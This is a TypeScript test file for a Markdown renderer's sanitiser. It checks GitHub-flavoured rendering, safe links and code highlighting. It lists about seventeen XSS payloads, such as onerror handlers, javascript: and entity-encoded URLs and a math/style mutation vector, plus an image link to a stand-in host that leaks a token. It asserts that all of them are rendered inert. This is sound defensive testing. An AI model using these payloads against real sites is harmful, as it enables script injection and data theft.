// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { highlight, renderMarkdown, sanitize } from "./markdown";

function dom(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = html;
  return root;
}

function everyAttribute(root: HTMLElement): string[] {
  return [...root.querySelectorAll("*")].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`));
}

describe("renderMarkdown", () => {
  it("renders GitHub-flavoured Markdown", () => {
    const root = dom(renderMarkdown("# Title\n\n**bold** and `code`\n\n- [x] done\n- [ ] todo\n\n| a | b |\n|---|---|\n| 1 | 2 |"));
    expect(root.querySelector("h1")?.textContent).toBe("Title");
    expect(root.querySelector("strong")?.textContent).toBe("bold");
    expect(root.querySelector("code")?.textContent).toBe("code");
    const boxes = root.querySelectorAll("input");
    expect(boxes).toHaveLength(2);
    boxes.forEach((box) => expect(box.hasAttribute("disabled")).toBe(true));
    expect(root.querySelector(".md-table table td")?.textContent).toBe("1");
  });

  it("highlights code blocks and gives them a copy button", () => {
    const root = dom(renderMarkdown("```python\ndef f():\n    return 1\n```"));
    expect(root.querySelector(".md-code-lang")?.textContent).toBe("python");
    expect(root.querySelector("button.md-copy")).not.toBeNull();
    expect(root.querySelector("code .hljs-keyword")?.textContent).toBe("def");
    expect(root.querySelector("code")?.textContent).toBe("def f():\n    return 1");
  });

  it("makes links open safely in a new tab", () => {
    const root = dom(renderMarkdown("see [docs](https://example.com/x) or <https://example.org>"));
    const links = [...root.querySelectorAll("a")];
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link.getAttribute("rel")).toBe("noopener noreferrer");
      expect(link.getAttribute("target")).toBe("_blank");
    }
  });

  it("never loads images: they become links", () => {
    const root = dom(renderMarkdown("![secret](https://evil.example/leak?d=token)"));
    expect(root.querySelector("img")).toBeNull();
    const link = root.querySelector("a.md-image-link");
    expect(link?.getAttribute("href")).toBe("https://evil.example/leak?d=token");
    expect(link?.textContent).toContain("secret");
  });
});

describe("hostile markup is inert", () => {
  const payloads = [
    "<img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<script>alert(1)</script>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div onclick="alert(1)" style="position:fixed">x</div>',
    '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
    '<input type="text" autofocus onfocus="alert(1)">',
  ];

  for (const payload of payloads) {
    it(`neutralises ${payload}`, () => {
      const root = dom(renderMarkdown(payload));
      const attributes = everyAttribute(root);
      expect(attributes.filter((a) => a.startsWith("on"))).toEqual([]);
      expect(attributes.filter((a) => a.startsWith("style"))).toEqual([]);
      expect(attributes.filter((a) => /^(href|src|action)=\s*(javascript|data|vbscript):/i.test(a))).toEqual([]);
      expect(root.querySelector("script, iframe, svg, img, style, form, math, object, embed")).toBeNull();
      for (const input of root.querySelectorAll("input")) {
        expect(input.getAttribute("type")).toBe("checkbox");
        expect(input.hasAttribute("disabled")).toBe(true);
      }
    });
  }

  it("drops class names that are not its own, so output cannot look like the app", () => {
    const root = dom(sanitize('<div class="permission-card md-note hljs-string btn">x</div>'));
    expect(root.querySelector("div")?.getAttribute("class")).toBe("md-note hljs-string");
  });
});

describe("highlight", () => {
  it("escapes code it cannot highlight", () => {
    expect(highlight("<b>&</b>", "no-such-language").html).toBe("&lt;b&gt;&amp;&lt;/b&gt;");
  });

  it("knows common aliases", () => {
    expect(highlight("const x = 1", "ts").language).toBe("ts");
    expect(highlight("const x = 1", "ts").html).toContain("hljs-keyword");
  });
});
